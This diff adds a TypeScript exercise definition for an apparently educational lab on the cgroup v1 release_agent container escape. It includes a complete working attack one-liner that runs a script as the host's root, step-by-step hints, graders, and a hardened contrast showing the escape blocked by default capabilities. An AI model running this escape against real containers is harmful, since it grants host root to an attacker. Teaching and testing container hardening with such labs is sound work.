@@ -1,0 +1,155 @@
+// Escape lab: CAP_SYS_ADMIN lets root in a container mount a cgroup v1 hierarchy of its own
+// and set its release_agent, a program the kernel runs as the host's root, in the host's
+// namespaces, when the last process leaves a cgroup marked notify_on_release. Pointed at a
+// script in the container's own layer (the overlay upperdir, a host path), it runs that
+// script on the host. Containment: the payload copies the session's flag (0600 in the
+// session directory) into loot/ (0700, mounted in no container) and touches nothing else;
+// the session releases the hierarchy when it ends, the sweep after a crash. The hardened
+// contrast is the same container with Docker's default capabilities: the mount is refused.
+import type Dockerode from 'dockerode';
+import type { LabDefinition } from '../../server/labs/lab-definition.ts';
+
+const SMALL = { memoryMb: 128, pidsLimit: 128, cpus: 0.5 } as const;
+const NOTES = { source: 'notes', target: '/notes', readOnly: true };
+
+/** Host path of the container's writable layer, from its root overlay in /proc/self/mountinfo. */
+const UPPERDIR_STEP = `sed -n 's/.*upperdir=\\([^,]*\\).*/\\1/p' /proc/self/mountinfo | head -1`;
+
+/**
+ * The whole attack on one line: find the session directory (the host path of /notes) and
+ * the layer's host path, write the payload, mount a hierarchy with a fresh nslab-… name,
+ * arm release_agent, let a process leave a notify_on_release cgroup, then clean up.
+ */
+export const ATTACK_STEP = [
+  `d=$(awk '$5=="/notes" {print $4}' /proc/self/mountinfo); d=\${d%/notes}`,
+  `up=$(${UPPERDIR_STEP})`,
+  `printf '#!/bin/sh\\ncp %s/flag %s/loot/flag\\n' "$d" "$d" > /payload && chmod +x /payload`,
+  `n=nslab-$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \\n')`,
+  'mkdir -p /tmp/cg && mount -t cgroup -o none,name=$n nslab /tmp/cg && mkdir -p /tmp/cg/x && echo 1 > /tmp/cg/x/notify_on_release && echo "$up/payload" > /tmp/cg/release_agent && sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'',
+  'sleep 1; cat /tmp/cg/release_agent; rmdir /tmp/cg/x; sleep 1; umount /tmp/cg',
+].join('; ');
+
+/** The overlay's upper directory from inspect (dockerode types only device-mapper's data). */
+function upperDir(info: Dockerode.ContainerInspectInfo): string | undefined {
+  return (info.GraphDriver.Data as unknown as Record<string, string | undefined>).UpperDir;
+}
+
+/** The directory, without a trailing slash, so "…/diff/" and "…/diff" compare equal. */
+function plainPath(text: string): string {
+  return text.trim().replace(/\/+$/, '');
+}
+
+export const escapeReleaseAgentLab: LabDefinition = {
+  id: 'escape-release-agent',
+  title: 'Escape: cgroup release_agent',
+  topic: 'escapes',
+  summary:
+    'With CAP_SYS_ADMIN, root in a container mounts a cgroup v1 hierarchy and makes the kernel run a script from the container as the host’s root. Use it to copy a root-only flag on the host, then see Docker’s default capabilities stop the mount.',
+  minutes: 15,
+  lesson: 'escape-release-agent.md',
+  escape: true,
+  unavailable: (facts) =>
+    facts.cgroupV1Mount === true
+      ? undefined
+      : 'This lab needs a kernel that can mount a cgroup v1 hierarchy (release_agent exists only in cgroup v1), and this host’s kernel refused one at start-up. The lesson explains the attack; on this host it cannot be run.',
+  hostFiles: [
+    { path: 'flag', content: '{{token}}\n', mode: 0o600 },
+    { path: 'loot', mode: 0o700 },
+    { path: 'notes', mode: 0o755 },
+    {
+      path: 'notes/README',
+      content:
+        'This directory is part of your session’s directory on the host, mounted read-only.\nIts host path is in /proc/self/mountinfo. Next to it, on the host: flag (0600) and loot/ (0700).\n',
+      mode: 0o644,
+    },
+  ],
+  containers: [
+    {
+      name: 'escape',
+      title: 'escape (--cap-add SYS_ADMIN)',
+      hostname: 'escape',
+      capAdd: ['SYS_ADMIN'],
+      securityOpt: ['apparmor=unconfined'],
+      cgroupnsMode: 'host',
+      sessionDirMounts: [NOTES],
+      ...SMALL,
+    },
+    {
+      name: 'hardened',
+      title: 'hardened (default capabilities)',
+      hostname: 'hardened',
+      sessionDirMounts: [NOTES],
+      ...SMALL,
+    },
+  ],
+  exercises: [
+    {
+      id: 'host-path',
+      title: 'Where your files live on the host',
+      goal: "Report the host path of the escape container's writable layer: the directory where the host keeps every file you create in that container.",
+      answer: { label: 'Host path', placeholder: '/var/lib/docker/overlay2/…/diff' },
+      hints: [
+        'The container’s / is an overlay mount, and the kernel lists a mount’s options in /proc/self/mountinfo, paths and all.',
+        'That is the hardened container’s layer. Ask in the escape terminal: each container has its own.',
+        `In the escape terminal: ${UPPERDIR_STEP}`,
+      ],
+      check: async (ctx, answer) => {
+        const own = upperDir(await ctx.container('escape').inspect());
+        const other = upperDir(await ctx.container('hardened').inspect());
+        const submitted = plainPath(answer ?? '');
+        if (own !== undefined && submitted === plainPath(own)) {
+          return {
+            passed: true,
+            reason: `Right: ${own} (docker inspect: GraphDriver.Data.UpperDir). A file you write at /payload in the escape container is ${plainPath(own)}/payload on the host: a path the host can execute.`,
+          };
+        }
+        if (other !== undefined && submitted === plainPath(other)) {
+          return {
+            passed: false,
+            reason: 'That is the hardened container’s writable layer, not the escape container’s.',
+            hint: 1,
+          };
+        }
+        return { passed: false, reason: 'That is not the escape container’s upperdir.', hint: 0 };
+      },
+      cheat: [{ terminal: 'hardened', input: UPPERDIR_STEP, capture: /^(\/\S+\/diff)$/m }],
+      solution: [{ terminal: 'escape', input: UPPERDIR_STEP, capture: /^(\/\S+\/diff)$/m }],
+    },
+    {
+      id: 'host-runs-it',
+      title: 'Make the host run your script',
+      goal: "Make the host's root copy the session's flag (flag, mode 0600, next to /notes on the host and mounted nowhere) into loot/ next to it, a directory no container mounts.",
+      hints: [
+        'In cgroup v1 each hierarchy has a release_agent: a program the kernel starts as the host’s root when the last process leaves a cgroup with notify_on_release set. Mounting a hierarchy needs CAP_SYS_ADMIN.',
+        'mount -t cgroup -o none,name=nslab-<something> nslab /tmp/cg; mkdir /tmp/cg/x; echo 1 > /tmp/cg/x/notify_on_release; put "<upperdir>/payload" in /tmp/cg/release_agent; write /payload (#!/bin/sh, cp <session dir>/flag <session dir>/loot/); then sh -c \'echo $$ > /tmp/cg/x/cgroup.procs\'. The session directory is the host path of /notes minus /notes.',
+        `In the escape terminal: ${ATTACK_STEP}`,
+      ],
+      check: async (ctx) => {
+        const files = (await ctx.sessionFiles.list('loot')).filter((f) => !f.isDirectory);
+        for (const file of files) {
+          if ((await ctx.sessionFiles.read(`loot/${file.name}`)).includes(ctx.sessionToken)) {
+            return {
+              passed: true,
+              reason: `loot/${file.name} holds the flag and belongs to uid ${file.uid}: the kernel ran your script as the host's root, outside every namespace of the container. The same script could have done anything root can.`,
+            };
+          }
+        }
+        return {
+          passed: false,
+          reason:
+            files.length === 0
+              ? 'loot/ on the host is empty: the host has not run your script (yet).'
+              : `loot/ holds ${files.map((f) => f.name).join(', ')}, but not the flag.`,
+          hint: files.length === 0 ? 0 : 1,
+        };
+      },
+      cheat: [
+        // The same attack, with Docker's default capabilities: mount is refused.
+        { terminal: 'hardened', input: ATTACK_STEP },
+        // loot/ inside the container is not the host's.
+        { terminal: 'escape', input: 'mkdir -p /loot && cat /notes/README > /loot/flag' },
+      ],
+      solution: [{ terminal: 'escape', input: ATTACK_STEP }],
+    },
+  ],
+};
